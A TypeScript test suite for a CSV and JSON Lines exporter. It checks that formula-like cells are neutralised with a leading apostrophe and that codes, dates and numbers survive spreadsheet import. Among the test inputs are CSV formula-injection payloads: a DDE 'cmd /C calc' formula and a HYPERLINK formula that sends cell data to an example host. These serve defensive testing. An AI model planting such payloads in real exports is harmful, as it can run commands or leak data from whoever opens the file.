import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { formats } from '../../src/export/formats.js';
import type { Cell } from '../../src/export/table.js';

const [csv, jsonLines] = formats;

function written(rows: readonly (readonly Cell[])[], byteOrderMark = false): string {
  const columns = (rows[0] ?? []).map((_cell, index) => ({ name: `column${index}`, about: '' }));
  return [...csv!.write(columns, rows, { byteOrderMark })].join('');
}

/** The cells as a program reads them that knows nothing but RFC 4180. */
function cellsOf(text: string): string[][] {
  return parse(text, { from: 2, record_delimiter: '\r\n' });
}

const cell = (value: Cell) => cellsOf(written([[value]]))[0]?.[0];

describe('in CSV', () => {
  test.each([
    '=1+1',
    '+44 20 7946 0000',
    '-1',
    '- a dash',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '=HYPERLINK("http://example.org?"&A1,"Titles")',
    "=cmd|' /C calc'!A0",
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
  ])('the formula %j is a text', (formula) => {
    expect(cell(formula)).toBe(`'${formula}`);
  });

  test.each([
    ['900000000000207008', 'an id of SNOMED CT, which would lose its last digits'],
    ['448606008', 'a short one, which would be written as 4.49E+08 again'],
    ['138875005', 'so that all of them are read in one way'],
    ['4.10', 'an edition, which would become 4.1'],
    ['0123', 'a zero that would be lost'],
    ['1e5', 'a number written with an exponent'],
    ['1,000', 'a number with a comma'],
    ['50 %', 'a share'],
    ['£5', 'an amount'],
    ['(3)', 'a negative amount'],
    ['2011-12', 'a period, which would become December'],
    ['2023-24', 'a period like it'],
    ['1/2', 'a day'],
    ['10:30', 'a time'],
    ['Mar 1', 'a day in words'],
    ['MAR1', 'a reference that looks like one'],
    ['1 September 2020', 'a day in words'],
    ['June 2020', 'a month'],
    ['TRUE', 'a truth value'],
    ["'4.10", 'what begins with an apostrophe already'],
    ["'quoted' words", 'what begins with an apostrophe already'],
  ])('%j has an apostrophe: %s', (text) => {
    expect(cell(text)).toBe(`'${text}`);
  });

  test.each([
    'V40.1',
    'V55.-',
    'C71-C74',
    'E10.1',
    'OPCS4:V40.1',
    'SNOMEDCT:900000000000207008',
    'IPG366',
    'M50-M54',
    'May be used',
    'March fracture',
    'A title, with a comma',
    'A "quoted" word',
    'Two\r\nlines',
    'Two\nlines',
    'Ünïcode – 💉',
    '2023-04-01',
    '2026-11-23T09:30:00.000Z',
    '0',
    '12345',
    '3D imaging',
    ' leading and trailing ',
  ])('%j stays as it is', (text) => {
    expect(cell(text)).toBe(text);
  });

  test.each<readonly [Cell, string]>([
    [5, '5'],
    [-5, '-5'],
    [0.5, '0.5'],
    [1234567, '1234567'],
    [true, 'true'],
    [false, 'false'],
    [null, ''],
  ])('%j is written %j', (value, text) => {
    expect(cell(value)).toBe(text);
  });

  test('lines end as RFC 4180 says, and the header is there without rows too', () => {
    expect(written([['a, b', 'c "d"']])).toBe('column0,column1\r\n"a, b","c ""d"""\r\n');
    const columns = [{ name: 'id', about: '' }];
    expect([...csv!.write(columns, [], { byteOrderMark: false })].join('')).toBe('id\r\n');
  });

  test('a byte order mark comes first, when it is asked for, and only once', () => {
    const rows = Array.from({ length: 600 }, (_one, index) => [index]);
    const text = written(rows, true);
    expect(text.lastIndexOf('\uFEFF')).toBe(0);
    expect(cellsOf(text.slice(1))).toHaveLength(600);
    expect(written(rows)).not.toContain('\uFEFF');
  });

  test('a long run of what looks like dates ends', () => {
    const text = `${'june'.repeat(20_000)}1x`;
    expect(cell(text)).toBe(text);
  });
});

test('JSON Lines has an object on each line, with every column', () => {
  const columns = ['id', 'count', 'named', 'title'].map((name) => ({ name, about: '' }));
  const rows = [
    ['900000000000207008', 3, true, 'Two\nlines'],
    ['4.10', -1, false, null],
  ];
  const text = [...jsonLines!.write(columns, rows, { byteOrderMark: true })].join('');
  expect(text).toBe(
    '{"id":"900000000000207008","count":3,"named":true,"title":"Two\\nlines"}\n' +
      '{"id":"4.10","count":-1,"named":false,"title":null}\n',
  );
});

test('without its first apostrophe every cell is as it was', () => {
  const awkward = fc.oneof(
    fc.string({ minLength: 1 }),
    fc.string({ unit: 'grapheme', minLength: 1 }),
    fc.string({ unit: fc.constantFrom(...'=+-@\'"\t\r\n,; 0123456789.eE/:jan'), minLength: 1 }),
  );
  const anyCell: fc.Arbitrary<Cell> = fc.oneof(
    awkward,
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
  );
  const asRead = (value: Cell) => (value === null ? '' : String(value));
  fc.assert(
    fc.property(fc.array(fc.array(anyCell, { minLength: 2, maxLength: 2 })), (rows) => {
      const cells = cellsOf(written(rows));
      expect(cells.map((row) => row.map((text) => text.replace(/^'/, '')))).toEqual(
        rows.map((row) => row.map(asRead)),
      );
      for (const [index, row] of rows.entries()) {
        for (const [place, value] of row.entries()) {
          if (typeof value === 'string')
            expect(cells[index]?.[place]).not.toMatch(/^[=+\-@\t\r\n]|^\d{6,}$|^\d+[.,/]\d+$/);
        }
      }
    }),
    { numRuns: 500 },
  );
});
